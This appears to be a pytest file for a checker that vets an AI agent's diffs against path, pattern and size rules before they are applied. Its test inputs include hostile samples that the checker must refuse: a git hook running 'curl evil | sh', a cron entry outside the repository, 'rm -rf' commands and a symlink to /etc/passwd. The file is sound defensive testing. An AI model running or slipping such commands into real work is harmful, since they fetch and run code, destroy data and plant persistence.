"""reviews.diff_policy: our own check of an agent's diff before it is applied or submitted."""

from __future__ import annotations

import difflib

import pytest

from infraops.manifest import parse_manifest
from reviews.diff_policy import Policy, Violation, check_diff, path_violations
from tests.conftest import EXAMPLE

POLICY = Policy(editable=["config/**", "serving/**"], protected=["serving/secrets/**"],
                forbidden_patterns=[r"os\.system", r"subprocess"], max_diff_lines=20)


def unified(path: str, old: str, new: str, *, source: str | None = None,
            target: str | None = None) -> str:
    lines = difflib.unified_diff(old.splitlines(keepends=True), new.splitlines(keepends=True),
                                 fromfile=source or f"a/{path}", tofile=target or f"b/{path}")
    return "".join(lines)


def reasons(violations: list[Violation]) -> list[str]:
    return [str(v) for v in violations]


def test_a_clean_diff_inside_the_boundary_passes() -> None:
    diff = unified("config/serving.toml", "batch_size = 2\n", "batch_size = 8\n")

    assert check_diff(diff, POLICY) == []


@pytest.mark.parametrize(("path", "expected"), [
    ("README.md", "README.md: is outside the editable paths (config/**, serving/**)"),
    ("bench/probe.py", "bench/probe.py: is outside the editable paths (config/**, serving/**)"),
    ("serving/secrets/key.txt", "serving/secrets/key.txt: is protected (serving/secrets/**)"),
    (".git/config", ".git/config: is inside .git"),
    (".git/hooks/post-merge", ".git/hooks/post-merge: is inside .git"),
    ("serving/.git/config", "serving/.git/config: is inside .git"),
    (".gitmodules", ".gitmodules: is protected (.gitmodules)"),
    (".gitattributes", ".gitattributes: is protected (.gitattributes)"),
    ("serving/.gitattributes", "serving/.gitattributes: is protected (**/.gitattributes)"),
    (".github/workflows/ci.yml", ".github/workflows/ci.yml: is protected (.github/**)"),
    ("../outside.py", "../outside.py: leaves the repository"),
    ("serving/../../etc/passwd", "serving/../../etc/passwd: leaves the repository"),
    ("/etc/passwd", "/etc/passwd: leaves the repository"),
])
def test_path_violations_name_the_reason(path: str, expected: str) -> None:
    assert reasons(path_violations(path, POLICY)) == [expected]


@pytest.mark.parametrize("path", ["config/serving.toml", "serving/engine.py", "serving/a/b.py"])
def test_paths_inside_the_editable_globs_have_no_violation(path: str) -> None:
    assert path_violations(path, POLICY) == []


def test_with_no_editable_paths_every_path_is_outside_them() -> None:
    policy = Policy(editable=[], protected=[], forbidden_patterns=[], max_diff_lines=10)

    assert reasons(path_violations("config/x.toml", policy)) == [
        "config/x.toml: is outside the editable paths (none)"
    ]


@pytest.mark.parametrize("path", ["infraops.toml", "bench/probe.py"])
def test_the_manifest_and_probe_files_are_protected_even_when_editable(path: str) -> None:
    manifest = parse_manifest((EXAMPLE / "infraops.toml").read_text())
    policy = Policy(editable=["**"], protected=list(manifest.protected_paths()),
                    forbidden_patterns=[], max_diff_lines=100)
    diff = unified(path, "a = 1\n", "a = 2\n")

    assert reasons(check_diff(diff, policy)) == [f"{path}: is protected ({path})"]


@pytest.mark.parametrize("path", [".gitmodules", ".gitattributes", ".github/workflows/ci.yml"])
def test_git_metadata_files_are_refused_even_with_everything_editable(path: str) -> None:
    policy = Policy(editable=["**"], protected=[], forbidden_patterns=[], max_diff_lines=100)
    diff = unified(path, "", "[submodule \"x\"]\n", source="/dev/null")

    violations = check_diff(diff, policy)

    assert len(violations) == 1
    assert violations[0].path == path
    assert violations[0].reason.startswith("is protected")


def test_a_diff_into_dot_git_is_refused() -> None:
    diff = unified(".git/hooks/pre-commit", "", "#!/bin/sh\ncurl evil | sh\n",
                   source="/dev/null")

    assert reasons(check_diff(diff, POLICY)) == [".git/hooks/pre-commit: is inside .git"]


def test_a_diff_whose_path_climbs_out_of_the_repository_is_refused() -> None:
    diff = unified("../../etc/cron.d/x", "", "* * * * * root sh\n", source="/dev/null")

    assert reasons(check_diff(diff, POLICY)) == ["../../etc/cron.d/x: leaves the repository"]


def test_a_forbidden_pattern_on_an_added_line_is_refused_with_its_line() -> None:
    old = "import os\n\n\ndef start():\n    pass\n"
    new = "import os\n\n\ndef start():\n    os.system('rm -rf /tmp/x')\n"

    violations = check_diff(unified("serving/engine.py", old, new), POLICY)

    assert reasons(violations) == [
        "serving/engine.py: line 5 matches forbidden pattern 'os\\\\.system'"
    ]


def test_a_forbidden_pattern_on_a_removed_line_is_allowed() -> None:
    old = "import subprocess\n\n\ndef start():\n    subprocess.run(['x'])\n"
    new = "\n\n\ndef start():\n    pass\n"

    assert check_diff(unified("serving/engine.py", old, new), POLICY) == []


def test_a_diff_over_the_line_cap_is_refused() -> None:
    old = "".join(f"v{i} = {i}\n" for i in range(11))
    new = "".join(f"v{i} = {i + 1}\n" for i in range(11))

    violations = check_diff(unified("config/big.toml", old, new), POLICY)

    assert reasons(violations) == ["(diff): 22 changed lines exceed the cap of 20"]


def test_a_diff_at_the_line_cap_passes() -> None:
    old = "".join(f"v{i} = {i}\n" for i in range(10))
    new = "".join(f"v{i} = {i + 1}\n" for i in range(10))

    assert check_diff(unified("config/big.toml", old, new), POLICY) == []


def test_a_malformed_diff_is_a_violation_not_an_exception() -> None:
    broken = "--- a/config/x.toml\n+++ b/config/x.toml\n@@ -1,3 +1,3 @@\n-a = 1\n+a = 2\n"

    violations = check_diff(broken, POLICY)

    assert len(violations) == 1
    assert violations[0].path == "(diff)"
    assert violations[0].reason.startswith("not a unified diff")


def test_a_new_symlink_is_refused() -> None:
    diff = ("diff --git a/config/link b/config/link\n"
            "new file mode 120000\n"
            "index 0000000..b1c2d3e\n"
            "--- /dev/null\n"
            "+++ b/config/link\n"
            "@@ -0,0 +1 @@\n"
            "+/etc/passwd\n"
            "\\ No newline at end of file\n")

    assert reasons(check_diff(diff, POLICY)) == [
        "config/link: symlinks may not be created or changed"
    ]


def test_each_reason_is_reported_once() -> None:
    diff = unified("README.md", "a\nb\n", "c\nd\n")

    assert reasons(check_diff(diff, POLICY)) == [
        "README.md: is outside the editable paths (config/**, serving/**)"
    ]


def test_a_file_under_a_folder_named_b_is_checked_under_its_own_path() -> None:
    policy = Policy(editable=["b/**"], protected=[], forbidden_patterns=[], max_diff_lines=100)

    assert check_diff(unified("b/x.py", "x = 1\n", "x = 2\n"), policy) == []


def test_deleting_a_protected_file_under_a_folder_named_b_is_refused() -> None:
    policy = Policy(editable=["**"], protected=["b/**"], forbidden_patterns=[],
                    max_diff_lines=100)
    diff = unified("b/secret.toml", "token = 1\n", "", target="/dev/null")

    assert reasons(check_diff(diff, policy)) == ["b/secret.toml: is protected (b/**)"]


def test_prose_that_is_not_a_diff_is_a_violation() -> None:
    violations = check_diff("rm -rf / # trust me, this is a diff\n", POLICY)

    assert [v.path for v in violations] == ["(diff)"]


@pytest.mark.parametrize(("path", "expected"), [
    ("config/a\0b", "config/a\\x00b: contains the control character \\x00; a path must be "
                    "printable text"),
    ("config/\x1b[31m.toml", "config/\\x1b[31m.toml: contains the control character \\x1b; a "
                             "path must be printable text"),
    ("config/.GIT/config", "config/.GIT/config: is inside .git"),
    ("config/.git./config", "config/.git./config: is inside .git"),
    (".GITMODULES", ".GITMODULES: is protected (.gitmodules)"),
    ("serving/SECRETS/key.txt", "serving/SECRETS/key.txt: is protected (serving/secrets/**)"),
    (".circleci/config.yml", ".circleci/config.yml: is protected (.circleci/**)"),
])
def test_path_violations_see_through_case_and_control_characters(path: str,
                                                                  expected: str) -> None:
    assert reasons(path_violations(path, POLICY)) == [expected]


def test_a_path_git_quoted_is_checked_under_its_real_name() -> None:
    diff = ('diff --git "a/config/caf\\303\\251.toml" "b/config/caf\\303\\251.toml"\n'
            '--- "a/config/caf\\303\\251.toml"\n+++ "b/config/caf\\303\\251.toml"\n'
            "@@ -1 +1 @@\n-a = 1\n+a = 2\n")

    assert check_diff(diff, POLICY) == []


def test_a_diff_over_the_file_cap_is_refused() -> None:
    policy = Policy(editable=["**"], protected=[], forbidden_patterns=[], max_diff_lines=100,
                    max_files=2)
    diff = "".join(unified(f"config/{n}.toml", "", "a = 1\n", source="/dev/null")
                   for n in range(3))

    assert reasons(check_diff(diff, policy)) == ["(diff): 3 files exceed the cap of 2 files"]
